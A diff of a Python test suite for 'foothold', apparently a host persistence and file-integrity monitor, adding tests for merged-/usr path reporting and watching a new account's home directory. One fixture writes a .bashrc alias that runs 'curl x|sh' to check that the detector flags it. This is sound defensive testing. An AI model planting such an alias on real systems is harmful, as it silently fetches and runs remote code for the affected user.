@@ -22,20 +22,21 @@ process field they do give must still be right (docs/TESTING.md).
 """
 
 import base64
-import re
 import hashlib
 import json
 import os
 import pwd
+import re
 import shutil
 import signal
 import subprocess
 import sys
 import tempfile
-import threading
 import time
 import traceback
 import uuid
+
+from harness import Fail, Foothold, Skip, check
 
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
 import rows as rowdata  # noqa: E402
@@ -82,18 +83,6 @@ def load_catalog():
 CATALOG = load_catalog()
 
 
-class Fail(Exception):
-    pass
-
-
-class Skip(Exception):
-    pass
-
-
-def check(cond, msg, *detail):
-    """Fails the test with msg when cond is false; detail objects go to stderr."""
-    if not cond:
-        raise Fail(msg, *detail)
 
 
 def marker(tag="m"):
@@ -151,62 +140,20 @@ class Result:
         return [e for e in self.alerts if e.get("file", {}).get("path", "").startswith(prefix)]
 
 
-class Monitor:
-    """`foothold run` as a subprocess; stdout and stderr are read by threads."""
+class Monitor(Foothold):
+    """`foothold run` as a subprocess (harness.Foothold)."""
 
     def __init__(self, ctx, sensor, root=None, extra=()):
         self.ctx = ctx
         self.sensor = sensor
         self.root = root
-        self.argv = [ctx.foothold, "run", "--json", "--log-file", "none", "--no-journald",
-                     "--sensor", sensor] + (["--root", root] if root else []) + list(extra)
-        self.proc = None
-        self.out = bytearray()
-        self.err = []
-        self.ready = threading.Event()
-
-    def _read_out(self):
-        while True:
-            b = self.proc.stdout.read1(1 << 16)
-            if not b:
-                return
-            self.out += b
-
-    def _read_err(self):
-        for line in self.proc.stderr:
-            s = line.decode("utf-8", "replace")
-            self.err.append(s)
-            if s.rstrip("\n") == "foothold: ready":
-                self.ready.set()
-        self.ready.set()
-
-    def start(self):
-        self.proc = subprocess.Popen(self.argv, stdin=subprocess.DEVNULL,
-                                     stdout=subprocess.PIPE, stderr=subprocess.PIPE)
-        self.threads = [threading.Thread(target=self._read_out, daemon=True),
-                        threading.Thread(target=self._read_err, daemon=True)]
-        for t in self.threads:
-            t.start()
-        if not self.ready.wait(READY_TIMEOUT) or self.proc.poll() is not None:
-            err = "".join(self.err)
-            self.kill()
-            raise Fail("foothold run did not print 'foothold: ready' within %gs" %
-                       READY_TIMEOUT, err)
-        return self
+        super().__init__([ctx.foothold, "run", "--json", "--log-file", "none", "--no-journald",
+                          "--sensor", sensor] + (["--root", root] if root else []) + list(extra),
+                         "foothold run", READY_TIMEOUT)
 
     def stop(self, sig=signal.SIGINT, settle=SETTLE):
-        time.sleep(settle)
-        self.proc.send_signal(sig)
-        try:
-            rc = self.proc.wait(timeout=20)
-        except subprocess.TimeoutExpired:
-            self.kill()
-            raise Fail("foothold run did not exit within 20s of %s" % signal.Signals(sig).name)
-        for t in self.threads:
-            t.join(timeout=10)
-        err = "".join(self.err)
-        check(rc == 0, "foothold run exited %d on %s" % (rc, signal.Signals(sig).name), err)
-        res = Result(rc, bytes(self.out), err, self.root)
+        rc, out, err = self.finish(sig, settle)
+        res = Result(rc, out, err, self.root)
         stops = [e for e in res.events if e.get("event", {}).get("kind") == "metric" and
                  e["event"].get("action") == "stop"]
         check(len(stops) == 1, "%d health records with action stop, expected 1" % len(stops))
@@ -217,18 +164,6 @@ class Monitor:
             for e in stops:
                 sys.stderr.write("stop: " + json.dumps(e["foothold"]) + "\n")
         return res
-
-    def kill(self):
-        if self.proc and self.proc.poll() is None:
-            self.proc.kill()
-            self.proc.wait()
-
-    def __enter__(self):
-        return self.start()
-
-    def __exit__(self, *exc):
-        self.kill()
-        return False
 
 
 class Root:
@@ -1191,6 +1126,43 @@ def g_overflow(ctx, sensor, cases):
     return {"queue-overflow": t}
 
 
+# ---- canonical paths and accounts that appear later ----
+
+def g_canon(ctx, sensor, cases):
+    r = Root(ctx, "canon-" + sensor)
+    r.mkdir("/usr/lib/modules/6.1.0-fh/extra")
+    os.symlink("usr/lib", r.host("/lib"))  # merged /usr, as Debian has it
+    out = {}
+    with Monitor(ctx, sensor, r.dir) as mon:
+        # Through /lib: lands in /usr/lib, reported there.
+        out["ko"] = ctx.py_write(r.host("/lib/modules/6.1.0-fh/extra/fh.ko"),
+                                 b"\x7fELF\x02\x01\x01" + b"\0" * 57)
+        # A new account: its home is watched from then on.
+        with open(r.host("/etc/passwd"), "a") as f:
+            f.write("bob:x:1001:1001::/home/bob:/bin/bash\n")
+        time.sleep(0.5)
+        r.mkdir("/home/bob")
+        time.sleep(0.3)
+        out["bob"] = ctx.py_write(r.host("/home/bob/.bashrc"), "alias ls='ls; curl x|sh'\n")
+        res = mon.stop()
+
+    def t_usr():
+        e = check_alert(res, sensor, "/usr/lib/modules/6.1.0-fh/extra/fh.ko", "kernel-module",
+                        "created", out["ko"], PY)
+        check(not res.under("/lib/"), "an alert at the /lib spelling",
+              *map(js, res.under("/lib/")))
+        check(e["foothold"]["item"]["detail"].get("parser") == "binary",
+              "parser %r" % e["foothold"]["item"]["detail"].get("parser"))
+
+    def t_home():
+        e = check_alert(res, sensor, "/home/bob/.bashrc", "shell-rc-user", "created",
+                        out["bob"], PY)
+        home = e["foothold"]["item"].get("home", {})
+        check(home.get("user") == "bob" and home.get("dir") == "/home/bob",
+              "foothold.item.home %r" % home, js(e))
+    return {"merged-usr": t_usr, "new-account-home": t_home}
+
+
 GROUPS = [
     ("rows", g_rows, case_names_rows()),
     ("evasions", g_evasions, EVASIONS),
@@ -1198,6 +1170,7 @@ GROUPS = [
     ("real", g_real, ["real-cron-d"]),
     ("config", g_config, CONFIGS),
     ("overflow", g_overflow, ["queue-overflow"]),
+    ("canon", g_canon, ["merged-usr", "new-account-home"]),
 ]
 
 
